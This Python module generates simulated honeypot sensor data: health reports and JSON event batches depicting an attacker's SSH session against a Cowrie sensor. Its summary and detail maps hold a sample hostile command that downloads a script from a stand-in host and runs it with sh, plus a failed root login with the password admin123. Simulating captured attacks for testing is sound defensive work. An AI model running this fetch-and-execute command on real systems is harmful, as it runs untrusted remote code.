"""What simulated sensors say: reports and batches of events, as bytes of the real contract, made cheaply."""

import json
import random
import time
from collections.abc import Callable
from datetime import UTC, datetime

from sensor_wire.v1.event import EventKind
from sensor_wire.v1.poll import Report, ServiceReport, ServiceState, SpoolReport

DIGEST = "sha256:" + "ab" * 32
SERVICES = ("cowrie", "recon")
PLACE = "2000-01-01T00:00:00Z"
STEPS = (EventKind.CONNECTION, EventKind.LOGIN, EventKind.LOGIN, EventKind.COMMAND, EventKind.CLOSED)
"""A session as attackers leave it: five events, the middle three with details."""


def reports() -> Callable[[], bytes]:
    """A function that gives a healthy sensor's report of this moment."""
    report = Report(
        observed_at=datetime.fromisoformat(PLACE),
        generation=1,
        firmware="0.1.0",
        platform="docker_x86",
        architecture="amd64",
        addresses=["192.0.2.10", "2001:db8::10"],
        uptime=86_400,
        memory_total=4 << 30,
        memory_available=2 << 30,
        disk_total=32 << 30,
        disk_used=1 << 30,
        spool=SpoolReport(bytes=4096),
        services=[ServiceReport(name=name, state=ServiceState.RUNNING, digest=DIGEST) for name in SERVICES],
    )
    before, after = report.model_dump_json(exclude_none=True).encode().split(PLACE.encode())
    return lambda: before + datetime.now(UTC).isoformat().encode() + after


def batches(size: int) -> Callable[[], bytes]:
    """A function that gives so many new events of this moment, five to a session."""
    step, session, source = 0, "", ""

    def one(moment: str) -> str:
        nonlocal step, session, source
        kind = STEPS[step % len(STEPS)]
        if kind is EventKind.CONNECTION:
            session = f"cowrie-{random.getrandbits(64):x}"
            source = f"198.51.{random.randrange(256)}.{random.randrange(256)}"
        step += 1
        return _event(moment, kind, session, source)

    def batch() -> bytes:
        moment = datetime.now(UTC).isoformat()
        return f'{{"events":[{",".join([one(moment) for _ in range(size)])}]}}'.encode()

    return batch


def uuid7() -> str:
    """A UUID of version 7 for an event of this moment."""
    milliseconds, rest = time.time_ns() // 1_000_000, random.getrandbits(74)
    return (
        f"{milliseconds >> 16:08x}-{milliseconds & 0xFFFF:04x}-7{rest >> 62:03x}"
        f"-{0x8000 | rest >> 48 & 0x3FFF:04x}-{rest & 0xFFFF_FFFF_FFFF:012x}"
    )


def _event(moment: str, kind: EventKind, session: str, source: str) -> str:
    return (
        f'{{"id":"{uuid7()}","service":"cowrie","time":"{moment}","source":{{"ip":"{source}","port":50522}},'
        f'"destination":{{"ip":"192.0.2.10","port":22}},"protocol":"tcp","kind":"{kind.value}","severity":"medium",'
        f'"session":"{session}","summary":"{_SUMMARIES[kind]}","details":[{_details(moment, kind)}]}}'
    )


def _details(moment: str, kind: EventKind) -> str:
    return f'{{"time":"{moment}","kind":"{kind.value}","data":{_DATA[kind]}}}' if kind in _DATA else ""


_SUMMARIES = {
    EventKind.CONNECTION: "SSH connection",
    EventKind.LOGIN: "Login as root with password admin123 refused",
    EventKind.COMMAND: "Command: wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    EventKind.CLOSED: "Connection closed after 12 s",
}
_DATA = {
    EventKind.LOGIN: json.dumps(json.dumps({"username": "root", "password": "admin123", "success": False})),
    EventKind.COMMAND: json.dumps(
        json.dumps({"input": "wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh", "cwd": "/root", "found": True})
    ),
}
